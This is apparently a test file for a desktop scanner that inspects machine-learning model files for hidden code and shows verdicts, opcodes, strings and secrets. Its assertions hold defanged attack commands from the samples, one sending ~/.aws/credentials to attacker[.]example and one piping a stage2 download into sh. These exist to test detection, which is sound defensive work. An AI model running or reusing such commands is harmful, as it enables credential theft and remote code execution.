// @vitest-environment jsdom
import { cleanup, fireEvent } from '@testing-library/react';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { OP } from '../shared/pickle/opcodes';
import { TABS } from './state/view';
import {
  kerasSample,
  lockedSample,
  onnxSample,
  SAMPLE_TOKEN,
  stringsSample,
  tensorsSample,
} from './testing/format-samples';
import { renderApp, screen, waitFor, within } from './testing/render-app';
import {
  allSamples,
  archiveSample,
  dangerousSample,
  inconclusiveSample,
  quietSample,
  suspiciousSample,
} from './testing/samples';

afterEach(cleanup);

const key = (name: string, more: object = {}) =>
  fireEvent.keyDown(document.activeElement ?? document.body, { key: name, ...more });
const banner = () => screen.getByTestId('verdict-banner');
const tree = () => screen.findByRole('treegrid', { name: 'Opcodes' });

describe('first run', () => {
  test('is a drop target that says what happens to files', async () => {
    await renderApp();
    expect(screen.getByText('Files are read, never loaded. Nothing leaves this computer.')).toBeTruthy();
    expect(screen.queryByRole('listbox')).toBeNull();
  });

  test('opens the sample set', async () => {
    const { bridge } = await renderApp();
    fireEvent.click(screen.getByRole('button', { name: 'Open the sample set' }));
    expect(await screen.findByRole('option', { name: /iris_classifier/ })).toBeTruthy();
    expect(bridge.requests.map(({ name }) => name)).toContain('artifacts.addSamples');
  });

  test('takes what is dropped anywhere, as File objects', async () => {
    await renderApp();
    const file = new File(['x'], 'model.pkl');
    fireEvent.dragEnter(document.body, { dataTransfer: { types: ['Files'], files: [file] } });
    expect(screen.getByText('Drop to inspect')).toBeTruthy();
    fireEvent.drop(document.body, { dataTransfer: { types: ['Files'], files: [file] } });
    expect(await screen.findByRole('listbox', { name: 'Files' })).toBeTruthy();
    expect(screen.queryByText('Drop to inspect')).toBeNull();
  });
});

describe('verdict', () => {
  const cases = [
    [dangerousSample(), 'Dangerous', 'octagon', /runs a shell command: curl https\[:\]\/\/attacker\[\.\]example/],
    [suspiciousSample(), 'Suspicious', 'triangle', /which nobody has vouched for/],
    [quietSample(), 'No findings', 'disc', /not a promise/],
    [inconclusiveSample(), 'Inconclusive', 'ring', /Part of this file could not be understood: 0xa to 0x137/],
  ] as const;
  for (const [sample, word, shape, sentence] of cases)
    test(`${word} has its word, its shape and a sentence`, async () => {
      const { bridge } = await renderApp();
      bridge.add([sample]);
      await waitFor(() => expect(within(banner()).getByText(word)).toBeTruthy());
      expect(banner().querySelector('svg')?.dataset.shape).toBe(shape);
      expect(banner().textContent).toMatch(sentence);
      expect(document.body.textContent).not.toMatch(/\bsafe\b/i);
    });

  test('shows the command as code and defanged', async () => {
    const { bridge } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() =>
      expect(banner().querySelector('code')?.textContent).toBe(
        'curl https[:]//attacker[.]example?data=$(cat ~/.aws/credentials)',
      ),
    );
  });

  test('is told before the scan ends', async () => {
    const { bridge } = await renderApp();
    const sample = dangerousSample();
    const [id = ''] = bridge.add([sample], false);
    expect(await screen.findByText('Scanning')).toBeTruthy();
    bridge.scanner.push({
      kind: 'progress',
      artifactId: id,
      progress: { readBytes: 50, totalBytes: 100, opcodes: 9, format: 'pickle', bytesPerSecond: 1024 },
    });
    bridge.scanner.push({
      kind: 'findings',
      artifactId: id,
      findings: sample.report.findings,
      verdictSoFar: 'dangerous',
    });
    await waitFor(() => expect(within(banner()).getByText('Dangerous')).toBeTruthy());
    expect(banner().textContent).toMatch(/The scan goes on: 50 %/);
  });

  test('a scan that breaks off is inconclusive and can be tried again', async () => {
    const { bridge } = await renderApp();
    const [id = ''] = bridge.add([quietSample()], false);
    bridge.emit('scan.state', { id, state: 'failed', error: { code: 'scannerCrashed', message: 'x' } });
    await waitFor(() => expect(within(banner()).getByText('Inconclusive')).toBeTruthy());
    fireEvent.click(within(screen.getByRole('alert')).getByRole('button', { name: 'Scan again' }));
    await waitFor(() => expect(within(banner()).getByText('No findings')).toBeTruthy());
  });
});

describe('queue', () => {
  test('counts by verdict, worst first, and filters', async () => {
    const { bridge } = await renderApp();
    bridge.add(allSamples().toReversed());
    await screen.findByRole('button', { name: 'Dangerous: 2' });
    expect(screen.getByRole('button', { name: 'No findings: 2' })).toBeTruthy();
    const names = () => screen.getAllByRole('option').map((option) => option.getAttribute('aria-label'));
    expect(names()[0]).toMatch(/Dangerous/);
    expect(names().at(-1)).toMatch(/No findings/);
    fireEvent.click(screen.getByRole('button', { name: 'Suspicious: 1' }));
    expect(names()).toHaveLength(1);
  });

  test('moves by keyboard and removes by command', async () => {
    const { bridge, session } = await renderApp();
    const ids = bridge.add([dangerousSample('a.pkl'), dangerousSample('b.pkl')]);
    await screen.findByRole('option', { name: /b\.pkl, Dangerous/ });
    const list = screen.getByRole('listbox', { name: 'Files' });
    list.focus();
    fireEvent.keyDown(list, { key: 'ArrowDown' });
    await waitFor(() => expect(within(banner()).getByText('b.pkl')).toBeTruthy());
    key('Delete');
    await waitFor(() => expect(session.queue.getState().items.size).toBe(1));
    expect(bridge.requests).toContainEqual({ name: 'artifacts.remove', input: { ids: [ids[1]] } });
  });

  test('ten thousand files need no more than the rows in sight', async () => {
    const { bridge } = await renderApp();
    const one = quietSample();
    bridge.add(
      Array.from({ length: 10_000 }, (_, index) => ({ ...one, name: `model-${index}.pkl` })),
      false,
    );
    await screen.findByText('All 10,000');
    expect(screen.getAllByRole('option').length).toBeLessThan(40);
  });
});

describe('finding, opcode and bytes', () => {
  test('the worst finding is selected everywhere when a file opens', async () => {
    const { bridge } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() => expect(screen.getByRole('heading', { name: /REDUCE 0x52 at 0xa53/ })).toBeTruthy());
    fireEvent.mouseDown(screen.getByRole('tab', { name: /Opcodes/ }), { button: 0 });
    const row = await waitFor(async () => within(await tree()).getByRole('row', { selected: true }));
    expect(row.textContent).toMatch(/0xa53.*REDUCE.*posix\.system/);
    await waitFor(() => expect(document.querySelector('.hex-bytes .selected')?.textContent).toBe('52'));
  });

  test('selecting a finding selects its row and its bytes', async () => {
    const { bridge } = await renderApp();
    bridge.add([archiveSample()]);
    fireEvent.mouseDown(await screen.findByRole('tab', { name: /Findings/ }), { button: 0 });
    const list = await screen.findByRole('grid', { name: 'Findings' });
    fireEvent.click(within(within(list).getByRole('row', { name: /Imports/ })).getByRole('button', { name: /^0x/ }));
    const row = await waitFor(async () => within(await tree()).getByRole('row', { selected: true }));
    expect(row.textContent).toMatch(/STACK_GLOBAL/);
    const hex = screen.getByRole('grid', { name: 'Bytes of the stream' });
    await waitFor(() => expect(within(hex).getByRole('gridcell', { selected: true }).textContent).toBe('93'));
  });

  test('a byte selects the opcode that holds it', async () => {
    const { bridge } = await renderApp();
    bridge.add([quietSample()]);
    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Hex' }), { button: 0 });
    const cell = await waitFor(
      () =>
        document.querySelector<HTMLElement>('.hex-bytes [data-offset="7"]') ??
        Promise.reject(new Error('no bytes yet')),
    );
    fireEvent.click(cell);
    await waitFor(() => expect(screen.getByRole('heading', { name: /SHORT_BINUNICODE 0x8c at 0x5/ })).toBeTruthy());
  });

  test('the tree is moved through by keyboard, folds, and steps', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([quietSample()]);
    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Opcodes' }), { button: 0 });
    const grid = await tree();
    await within(grid).findByRole('row', { name: /PROTO/ });
    for (let step = 1; step <= 3; step++) {
      fireEvent.keyDown(grid, { key: 'ArrowDown' });
      await waitFor(() => expect(session.selection.getState().line?.row).toBe(step));
    }
    expect(session.selection.getState().line?.code).toBe(OP.MARK);
    const before = Number(grid.getAttribute('aria-rowcount'));
    fireEvent.keyDown(grid, { key: 'ArrowLeft' });
    await waitFor(() => expect(Number(grid.getAttribute('aria-rowcount'))).toBe(5 + 1));
    expect(within(grid).getByRole('row', { expanded: false }).textContent).toMatch(/120 rows to SETITEMS/);
    fireEvent.keyDown(grid, { key: 'ArrowRight' });
    await waitFor(() => expect(Number(grid.getAttribute('aria-rowcount'))).toBe(before));
    fireEvent.click(screen.getByRole('button', { name: 'Step' }));
    fireEvent.keyDown(grid, { key: 'ArrowRight' });
    await waitFor(() => expect(session.selection.getState().line?.row).toBe(4));
    expect((await screen.findByTestId('stack-change')).textContent).toMatch(/'feature_0'/);
  });

  test('filters by segment and text', async () => {
    const { bridge } = await renderApp();
    bridge.add([dangerousSample()]);
    fireEvent.mouseDown(await screen.findByRole('tab', { name: /Opcodes/ }), { button: 0 });
    const grid = await tree();
    fireEvent.click(await screen.findByRole('radio', { name: 'Imports 2' }));
    await waitFor(() => expect(grid.getAttribute('aria-rowcount')).toBe('2'));
    fireEvent.click(screen.getByRole('radio', { name: /^All/ }));
    fireEvent.change(screen.getByRole('searchbox', { name: /Filter/ }), { target: { value: 'sepal' } });
    await waitFor(() => expect(grid.getAttribute('aria-rowcount')).toBe('2'));
  });
});

describe('tabs', () => {
  test('stand only where there is something to show', async () => {
    const { bridge, session } = await renderApp();
    const [quiet, archive] = bridge.add([quietSample(), archiveSample()]);
    await screen.findByRole('button', { name: 'Dangerous: 1' });
    const names = () => screen.getAllByRole('tab').map((tab) => tab.textContent);
    session.show(quiet ?? null);
    await waitFor(() => expect(names()).toEqual(['Overview', 'Opcodes', 'Code', 'Hex']));
    session.show(archive ?? null);
    await waitFor(() => expect(names()).toEqual(['Overview', 'Findings2', 'Opcodes', 'Code', 'Hex', 'Members']));
  });

  test('members are a tree with flags', async () => {
    const { bridge } = await renderApp();
    bridge.add([archiveSample()]);
    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Members' }), { button: 0 });
    const grid = await screen.findByRole('treegrid', { name: 'Members' });
    expect(within(grid).getByRole('row', { name: /^version,.*2 B, 4 B stored, deflated, duplicate$/ })).toBeTruthy();
  });

  test('the load story is in order and leads to the bytes', async () => {
    const { bridge } = await renderApp();
    bridge.add([dangerousSample()]);
    const steps = await waitFor(() => screen.getAllByRole('button', { name: /Imports|Makes|Calls/ }));
    expect(steps.map((step) => step.textContent?.slice(0, 8))).toEqual([
      '1Imports',
      '2Makes s',
      '3Imports',
      '4Calls p',
    ]);
    fireEvent.click(steps[3] as HTMLElement);
    await waitFor(async () =>
      expect(within(await tree()).getByRole('row', { selected: true }).textContent).toMatch(/REDUCE/),
    );
  });
});

describe('commands', () => {
  test('the palette opens by key, finds and runs', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
    key('k', { ctrlKey: true });
    const input = await screen.findByPlaceholderText('Search, go to offset, run a command');
    fireEvent.change(input, { target: { value: 'sha' } });
    fireEvent.keyDown(input, { key: 'Enter' });
    await waitFor(() => expect(bridge.clipboard).toEqual([dangerousSample().report.sha256]));
    expect(screen.queryByPlaceholderText('Search, go to offset, run a command')).toBeNull();
  });

  test('goes to an offset typed into the palette', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
    key('g', { ctrlKey: true });
    const input = await screen.findByPlaceholderText(/Offset:/);
    fireEvent.change(input, { target: { value: '0xa10' } });
    fireEvent.keyDown(input, { key: 'Enter' });
    await waitFor(() => expect(session.selection.getState().line?.code).toBe(OP.STACK_GLOBAL));
  });

  test('the main process may run a row, and nothing that is no row', async () => {
    const { bridge, session } = await renderApp();
    bridge.add(allSamples());
    await screen.findByRole('button', { name: 'Dangerous: 2' });
    bridge.emit('app.command', { command: 'view.select', argument: 'scaler.pkl' });
    await waitFor(() => expect(within(banner()).getByText('scaler.pkl')).toBeTruthy());
    bridge.emit('app.command', { command: 'view.tab', argument: 'hex' });
    await waitFor(() => expect(screen.getByRole('tab', { name: 'Hex', selected: true })).toBeTruthy());
    bridge.emit('app.command', { command: 'constructor' });
    bridge.emit('app.command', { command: 'view.tab', argument: 'nonsense' });
    expect(session.view.getState().tab).toBe('hex');
  });

  test('? shows the keys of the table', async () => {
    await renderApp();
    key('?', { shiftKey: true });
    const dialog = await screen.findByRole('dialog', { name: 'Keys' });
    expect(within(dialog).getByText('Go to offset…')).toBeTruthy();
  });

  test('evidence names the finding so that it can be found again, and nothing in it can be clicked', async () => {
    const { bridge } = await renderApp();
    bridge.add([dangerousSample()]);
    fireEvent.click(await screen.findByRole('button', { name: 'Copy as evidence' }));
    await waitFor(() => expect(bridge.clipboard).toHaveLength(1));
    expect(bridge.clipboard[0]).toMatch(/CRITICAL dangerous-call[\s\S]*SHA-256: 9c29[\s\S]*0xa53, 1 bytes/);
    expect(bridge.clipboard[0]).not.toContain('https://');
  });
});

describe('what a pickle does', () => {
  const openCode = async () => fireEvent.mouseDown(await screen.findByRole('tab', { name: /^Code/ }), { button: 0 });
  const program = () => screen.findByRole('grid', { name: 'Code of What the pickle does' });

  test('is told as Python, asked for once, with its dangerous names and findings marked', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() => expect(session.selection.getState().line).toBeTruthy());
    expect(bridge.scanner.asked.some(({ what }) => what === 'pseudoPython')).toBe(false);
    await openCode();
    expect(
      (await screen.findByRole('option', { name: /^What the pickle does, Pickle, .* runs while loading/ })).textContent,
    ).toMatch(/posix\.system/);
    const grid = await program();
    const mark = within(grid).getByTitle('posix.system runs commands on this computer');
    expect(mark.textContent).toBe('posix.system');
    const row = within(grid).getByRole('row', { selected: true });
    expect(within(row).getByRole('img', { name: /^Finding, critical: Loading this file runs a shell/ })).toBeTruthy();
    expect(row.textContent).toMatch(/attacker\[\.\]example/);
    fireEvent.mouseDown(screen.getByRole('tab', { name: 'Hex' }), { button: 0 });
    await openCode();
    await program();
    expect(bridge.scanner.asked.filter(({ what }) => what === 'pseudoPython')).toHaveLength(1);
  });

  test('leads line by line to its opcodes and its bytes, by mouse and by keyboard', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([dangerousSample()]);
    await openCode();
    const grid = await program();
    grid.focus();
    fireEvent.keyDown(grid, { key: 'End' });
    fireEvent.keyDown(grid, { key: 'Enter' });
    await waitFor(() => expect(session.selection.getState().line?.code).toBe(OP.STOP));
    const call = within(grid).getByRole('row', { name: /posix\.system/ });
    fireEvent.mouseDown(call.querySelector('.code-words-of-line') as HTMLElement, { button: 0 });
    await waitFor(() => expect(session.selection.getState().line?.code).toBe(OP.REDUCE));
    const { range, finding } = session.selection.getState();
    expect([range, finding?.ruleId]).toEqual([{ start: 0xa53, end: 0xa54 }, 'dangerous-call']);
    const inspector = screen.getByRole('complementary', { name: 'Inspector' });
    expect(within(inspector).getByText(/Pops a callable and an argument tuple/)).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Show its bytes' }));
    expect(await screen.findByRole('tab', { name: 'Hex', selected: true })).toBeTruthy();
    expect(session.selection.getState().range).toEqual({ start: 0xa53, end: 0xa54 });
  });

  test('an opcode leads to the line that tells it', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([dangerousSample()]);
    await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
    await session.selection.toBytes([], 0);
    await openCode();
    const row = await waitFor(async () => within(await program()).getByRole('row', { selected: true }));
    expect(row.getAttribute('aria-rowindex')).toBe('1');
  });

  test('says that it goes on, and offers another attempt when it does not come', async () => {
    const { bridge } = await renderApp();
    const { answer } = bridge.scanner;
    bridge.scanner.answer = (sample, query) =>
      answer(sample, query.what === 'pseudoPython' ? { ...query, lines: 2 } : query);
    bridge.scanner.refuse = ({ what }) =>
      what === 'pseudoPython' ? { code: 'timedOut', message: 'It took too long.' } : null;
    bridge.add([dangerousSample()]);
    await openCode();
    expect(await screen.findByText('It took too long.')).toBeTruthy();
    bridge.scanner.refuse = () => null;
    fireEvent.click(screen.getByRole('button', { name: 'Try again' }));
    expect(await screen.findByText(/^The pickle goes on: .*its first 2 lines/)).toBeTruthy();
  });

  test('stands beside carried code, which comes first where it names the worse', async () => {
    const { bridge } = await renderApp();
    const { report, ...rest } = dangerousSample();
    const { code } = kerasSample().report;
    bridge.add([{ ...rest, report: { ...report, code } }]);
    await openCode();
    const titles = async () =>
      (await screen.findAllByRole('option', { name: /runs (?:while|when|on)/ })).map((option) => option.textContent);
    await waitFor(async () => expect((await titles()).at(-1)).toMatch(/What the pickle does/));
    expect((await titles())[0]).toMatch(/Lambda layer/);
  });
});

describe('what is not a pickle', () => {
  const openTab = async (name: RegExp) => fireEvent.mouseDown(await screen.findByRole('tab', { name }), { button: 0 });

  test('has its story, its operations and its references in the overview', async () => {
    const { bridge } = await renderApp();
    bridge.add([onnxSample()]);
    expect(await screen.findByText('What loading and using it would do, in order')).toBeTruthy();
    expect(screen.queryByText(/would import nothing/)).toBeNull();
    const row = screen.getByRole('row', { name: /^Run com\.attacker\.ops/ });
    expect(row.textContent).toMatch(/not known: its code is not in the file/);
    expect(screen.getByRole('row', { name: /shadow file outside its folder external data/ })).toBeTruthy();
  });

  test('shows its code with numbers, colours and dangerous names, which the inspector explains', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([kerasSample()]);
    await openTab(/^Code/);
    const source = await screen.findByRole('grid', { name: /Code of Lambda layer “scale”/ });
    const mark = within(source).getByTitle('os.system runs commands on this computer');
    expect(mark.textContent).toBe('os.system');
    expect(within(source).getByText('return').className).toBe('tok-keyword');
    fireEvent.mouseDown(within(mark).getByText('system'), { button: 0 });
    const inspector = screen.getByRole('complementary', { name: 'Inspector' });
    expect(await within(inspector).findByText('This name runs commands on this computer.')).toBeTruthy();
    expect(within(inspector).getByText('The file carries code')).toBeTruthy();
    fireEvent.click(within(inspector).getByRole('button', { name: 'Show its bytes' }));
    expect(await screen.findByRole('tab', { name: 'Hex', selected: true })).toBeTruthy();
    expect(session.selection.getState().entryPath).toEqual(['config.json']);
  });

  test('its code is chosen, searched and copied by keyboard', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([kerasSample()]);
    await openTab(/^Code/);
    const list = await screen.findByRole('listbox', { name: 'Pieces of code' });
    list.focus();
    fireEvent.keyDown(list, { key: 'End' });
    expect(await screen.findByRole('grid', { name: /Code of Lambda layer “double”/ })).toBeTruthy();
    expect(session.selection.getState().code?.fact.language).toBe('bytecode');
    key('f', { ctrlKey: true });
    const field = screen.getByRole('searchbox', { name: 'Find in code' });
    await waitFor(() => expect(document.activeElement).toBe(field));
    fireEvent.change(field, { target: { value: 'load_const' } });
    expect(await screen.findByText('1 of 5')).toBeTruthy();
    fireEvent.keyDown(field, { key: 'Enter' });
    expect(await screen.findByText('2 of 5')).toBeTruthy();
    fireEvent.keyDown(field, { key: 'Enter', shiftKey: true });
    expect(await screen.findByText('1 of 5')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Copy the code' }));
    await waitFor(() => expect(bridge.clipboard[0]).toMatch(/^def double\(x\):/));
  });

  test('a finding about code leads to the code', async () => {
    const { bridge } = await renderApp();
    bridge.add([kerasSample()]);
    await openTab(/^Findings/);
    const list = await screen.findByRole('grid', { name: 'Findings' });
    fireEvent.doubleClick(within(list).getByRole('row', { name: /Carries code.*double/ }));
    expect(await screen.findByRole('tab', { name: 'Code', selected: true })).toBeTruthy();
    expect(await screen.findByRole('grid', { name: /“double”/ })).toBeTruthy();
  });

  test('lists its tensors: sorted, filtered, added up, and each with its bytes', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([tensorsSample('big.safetensors', 20_000)]);
    await openTab(/^Tensors/);
    const table = await screen.findByRole('grid', { name: 'Tensors' });
    expect(table.getAttribute('aria-rowcount')).toBe('20000');
    expect(within(table).getAllByRole('row').length).toBeLessThan(60);
    fireEvent.click(screen.getByRole('button', { name: 'Elements' }));
    expect(screen.getByRole('button', { name: 'Elements, descending' }).getAttribute('aria-pressed')).toBe('true');
    expect(within(table).getAllByRole('row')[0]?.textContent).toMatch(/64 × 48/);
    fireEvent.change(screen.getByRole('searchbox', { name: /Filter name/ }), { target: { value: 'layer.7. bias' } });
    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('1'));
    expect(screen.getByText(/1 of 20,000|of 20,000/)).toBeTruthy();
    table.focus();
    fireEvent.keyDown(table, { key: 'ArrowDown' });
    const inspector = screen.getByRole('complementary', { name: 'Inspector' });
    expect(await within(inspector).findByText('encoder.layer.7.attention.self.query.bias')).toBeTruthy();
    expect(await within(inspector).findByText('First values')).toBeTruthy();
    fireEvent.keyDown(table, { key: 'Enter' });
    expect(await screen.findByRole('tab', { name: 'Hex', selected: true })).toBeTruthy();
    const { range, array } = session.selection.getState();
    expect(range).toEqual(array?.range);
  });

  test('lists what its texts point at: by type, filtered, defanged, copied, and each with its bytes', async () => {
    const { bridge, session } = await renderApp();
    bridge.add([stringsSample()]);
    await openTab(/^Strings/);
    const table = await screen.findByRole('grid', { name: 'Strings' });
    const rows = () => within(table).getAllByRole('row');
    expect(table.getAttribute('aria-rowcount')).toBe('11');
    expect(within(table).getByText('hxxps://attacker[.]example/stage2')).toBeTruthy();
    expect(table.textContent).not.toContain('https://');
    fireEvent.click(screen.getByRole('button', { name: 'Defanged' }));
    expect(within(table).getByText('https://attacker.example/stage2')).toBeTruthy();
    fireEvent.click(screen.getByRole('button', { name: 'Defanged' }));
    fireEvent.click(screen.getByRole('radio', { name: 'URLs 2' }));
    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('2'));
    const field = screen.getByRole('searchbox', { name: /Filter value/ });
    fireEvent.change(field, { target: { value: 'stage2' } });
    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('1'));
    fireEvent.click(screen.getByRole('button', { name: 'CSV' }));
    await waitFor(() => expect(bridge.clipboard).toHaveLength(1));
    expect(bridge.clipboard[0]).toContain('"URL","hxxps://attacker[.]example/stage2","2"');
    fireEvent.click(screen.getByRole('button', { name: 'STIX' }));
    await waitFor(() => expect(bridge.clipboard).toHaveLength(2));
    expect(JSON.parse(bridge.clipboard[1] as string).objects.map(({ type }: { type: string }) => type)).toEqual([
      'file',
      'url',
      'observed-data',
    ]);
    expect(await screen.findByText('Copied 1 row as STIX')).toBeTruthy();
    fireEvent.change(field, { target: { value: 'nothing like it' } });
    expect(await screen.findByText('No string matches.')).toBeTruthy();
    fireEvent.change(field, { target: { value: '' } });
    fireEvent.click(screen.getByRole('radio', { name: 'All 11' }));
    await waitFor(() => expect(table.getAttribute('aria-rowcount')).toBe('11'));
    fireEvent.click(screen.getByRole('button', { name: 'Count' }));
    expect(rows()[0]?.textContent).toMatch(/GitHub token/);
    table.focus();
    fireEvent.keyDown(table, { key: 'End' });
    fireEvent.click(screen.getByRole('button', { name: 'Copy Command' }));
    await waitFor(() => expect(bridge.clipboard[2]).toBe('curl hxxps://attacker[.]example/stage2 | sh'));
    fireEvent.keyDown(table, { key: 'Enter' });
    expect(await screen.findByRole('tab', { name: 'Hex', selected: true })).toBeTruthy();
    expect(session.selection.getState().range).toEqual(stringsSample().report.indicators[0]?.range);
  });

  test('a secret is masked everywhere until somebody asks for it', async () => {
    const { bridge } = await renderApp();
    bridge.add([stringsSample()]);
    const inspector = await screen.findByRole('complementary', { name: 'Inspector' });
    // The finding about it is what the window opens on.
    expect(await within(inspector).findByText(/The file carries a GitHub token/)).toBeTruthy();
    expect(document.body.textContent).not.toContain(SAMPLE_TOKEN);
    await openTab(/^Strings/);
    const table = await screen.findByRole('grid', { name: 'Strings' });
    fireEvent.mouseDown(within(table).getByRole('row', { name: /GitHub token/ }));
    expect(await within(inspector).findByText('ghp_… (40 characters)')).toBeTruthy();
    expect(document.body.textContent).not.toContain(SAMPLE_TOKEN);
    fireEvent.click(within(inspector).getByRole('button', { name: 'Reveal' }));
    expect(await within(inspector).findByText(SAMPLE_TOKEN)).toBeTruthy();
    fireEvent.click(within(inspector).getByRole('button', { name: 'Hide' }));
    await waitFor(() => expect(document.body.textContent).not.toContain(SAMPLE_TOKEN));
    fireEvent.click(within(inspector).getByRole('button', { name: 'Reveal' }));
    await within(inspector).findByText(SAMPLE_TOKEN);
    fireEvent.mouseDown(within(table).getByRole('row', { name: /Command/ }));
    await waitFor(() => expect(document.body.textContent).not.toContain(SAMPLE_TOKEN));
    for (const form of ['CSV', 'STIX']) fireEvent.click(screen.getByRole('button', { name: form }));
    await waitFor(() => expect(bridge.clipboard).toHaveLength(2));
    expect(bridge.clipboard.join('\n')).not.toContain(SAMPLE_TOKEN);
  });

  test('shows members as a tree that opens and closes by keyboard', async () => {
    const { bridge } = await renderApp();
    bridge.add([kerasSample()]);
    await openTab(/^Members/);
    const tree_ = await screen.findByRole('treegrid', { name: 'Members' });
    expect(within(tree_).getByRole('row', { name: /^words\.txt, .*encrypted$/ })).toBeTruthy();
    tree_.focus();
    fireEvent.keyDown(tree_, { key: 'End' });
    const inspector = screen.getByRole('complementary', { name: 'Inspector' });
    expect(within(inspector).getByText(/only some readers see it/)).toBeTruthy();
    fireEvent.keyDown(tree_, { key: 'ArrowLeft' });
    const folder = () => within(tree_).getByRole('row', { name: /^assets,/ });
    expect(tree_.getAttribute('aria-activedescendant')).toBe(folder().id);
    fireEvent.keyDown(tree_, { key: 'ArrowLeft' });
    await waitFor(() => expect(folder().getAttribute('aria-expanded')).toBe('false'));
    expect(tree_.getAttribute('aria-rowcount')).toBe('4');
    fireEvent.click(screen.getByRole('radio', { name: 'Flagged 5' }));
    await waitFor(() =>
      expect(screen.getByRole('radio', { name: 'Flagged 5' }).getAttribute('aria-checked')).toBe('true'),
    );
  });

  test('the line of the queue begins with what it is', async () => {
    const { bridge } = await renderApp();
    bridge.add([onnxSample(), lockedSample()]);
    expect(
      await screen.findByRole('option', { name: /segmenter\.onnx, Dangerous, ONNX: Loads the native library/ }),
    ).toBeTruthy();
    expect(screen.getByRole('option', { name: /weights\.7z, Inconclusive, 7-zip archive: encrypted/ })).toBeTruthy();
  });
});

describe('the password of an encrypted file', () => {
  const setUp = async () => {
    const { bridge, session } = await renderApp();
    const [id = ''] = bridge.add([lockedSample()]);
    fireEvent.click(await screen.findByRole('button', { name: 'Enter password…' }));
    const dialog = await screen.findByRole('dialog', { name: 'Enter the password' });
    return { bridge, session, id, dialog, field: within(dialog).getByLabelText<HTMLInputElement>('Password') };
  };

  test('is asked for, sent once, and kept nowhere in the window', async () => {
    const { bridge, session, id, dialog, field } = await setUp();
    expect(field.type).toBe('password');
    fireEvent.click(within(dialog).getByRole('button', { name: 'Show the password' }));
    expect(field.type).toBe('text');
    fireEvent.change(field, { target: { value: 'correct horse' } });
    fireEvent.submit(field);
    expect(field.value).toBe('');
    await waitFor(() =>
      expect(bridge.requests).toContainEqual({ name: 'scans.unlock', input: { id, password: 'correct horse' } }),
    );
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    await waitFor(() => expect(within(banner()).getByText('No findings')).toBeTruthy());
    const stores = [session.view, session.queue, session.selection, session.opened, session.current, session.settings];
    expect(JSON.stringify(stores.map((store) => store.getState()))).not.toContain('correct horse');
  });

  test('that is wrong is said plainly, and may be tried again', async () => {
    const { bridge, dialog, field } = await setUp();
    fireEvent.change(field, { target: { value: 'wrong' } });
    fireEvent.submit(field);
    expect(await within(dialog).findByText(/Still locked/)).toBeTruthy();
    expect(document.activeElement).toBe(field);
    fireEvent.change(field, { target: { value: 'correct horse' } });
    fireEvent.submit(field);
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    expect(bridge.requests.filter(({ name }) => name === 'scans.unlock')).toHaveLength(2);
  });

  test('is a command too, and Escape leaves everything as it was', async () => {
    const { bridge, dialog } = await setUp();
    fireEvent.keyDown(dialog, { key: 'Escape' });
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    key('k', { ctrlKey: true });
    fireEvent.change(await screen.findByPlaceholderText(/run a command/), { target: { value: 'password' } });
    fireEvent.keyDown(screen.getByPlaceholderText(/run a command/), { key: 'Enter' });
    expect(await screen.findByRole('dialog', { name: 'Enter the password' })).toBeTruthy();
    expect(bridge.requests.some(({ name }) => name === 'scans.unlock')).toBe(false);
  });
});

test('a fault in one view leaves the verdict and the other views standing', async () => {
  const silence = vi.spyOn(console, 'error').mockImplementation(() => undefined);
  const { bridge } = await renderApp();
  const sample = kerasSample();
  const code = sample.report.code.map((fact) => ({ ...fact, language: 'nonsense' as 'python' }));
  bridge.add([{ ...sample, report: { ...sample.report, code } }]);
  fireEvent.mouseDown(await screen.findByRole('tab', { name: /^Members/ }), { button: 0 });
  fireEvent.mouseDown(screen.getByRole('tab', { name: /^Code/ }), { button: 0 });
  expect(await screen.findByText('The Code view met a fault of its own and cannot be shown.')).toBeTruthy();
  expect(within(banner()).getByText('Dangerous')).toBeTruthy();
  fireEvent.mouseDown(screen.getByRole('tab', { name: /^Members/ }), { button: 0 });
  expect(await screen.findByRole('treegrid', { name: 'Members' })).toBeTruthy();
  silence.mockRestore();
});

test('a view is looked for where there is most of it', async () => {
  const { bridge, session } = await renderApp();
  bridge.add([quietSample(), kerasSample(), tensorsSample()]);
  await screen.findByRole('button', { name: 'Dangerous: 1' });
  bridge.emit('app.command', { command: 'view.look', argument: 'tensors' });
  await waitFor(() => expect(within(banner()).getByText('bert-base/model.safetensors')).toBeTruthy());
  bridge.emit('app.command', { command: 'view.look', argument: 'code' });
  await waitFor(() => expect(within(banner()).getByText('denoiser.keras')).toBeTruthy());
  bridge.emit('app.command', { command: 'view.look', argument: 'opcodes' });
  await waitFor(() => expect(within(banner()).getByText('scaler.pkl')).toBeTruthy());
  expect(session.view.getState().tab).toBe('opcodes');
});

test.each([
  ['an archive of pickles', archiveSample()],
  ['a Keras archive', kerasSample()],
  ['a configuration with addresses', stringsSample()],
])('every control has a name, in every view of %s', async (_, sample) => {
  const { bridge, session } = await renderApp();
  bridge.add([sample]);
  await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
  for (const tab of TABS) {
    session.view.setState({ tab });
